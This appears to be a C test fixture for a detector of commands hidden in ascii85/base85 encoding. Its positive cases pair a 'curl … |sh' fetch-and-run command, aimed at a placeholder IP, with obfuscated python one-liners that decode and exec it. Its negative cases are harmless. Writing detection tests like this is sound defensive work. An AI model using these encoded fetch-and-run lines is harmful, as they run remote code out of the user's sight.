// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "ascii85", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(base64.b85decode('V|8+DAT4ts"
		"XmoUNIxjCVIXEsgF)lGMFfKPQczknc'))\"" },
	{ "ascii85", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(base64.a85decode(r'@s)g.+>%X"
		"WBQS\?83\\N-@3B/WK0eP170J5:;G^ORG'))\"" },
	/* What the text names, its first string was found with. */
	{ "ascii85", "curl -s http://198.51.100.7/x|sh",
		"x a85decode('ARfCl+D>>&Ci:G\?DfTZ)'); y a85decode('@s)g.+>%X"
		"WBQS\?83\\N-@3B/WK0eP170J5:;G^ORG')" },
};

static const char *const not [] = {
	"echo 'a85 and b85 are names'",
	"python3 -c \"import base64;print(base64.b85encode(b'hello wo"
	"rld'))\"",
	"ls /srv/z85/base85",
};

HIDDEN_MAIN("ascii85")
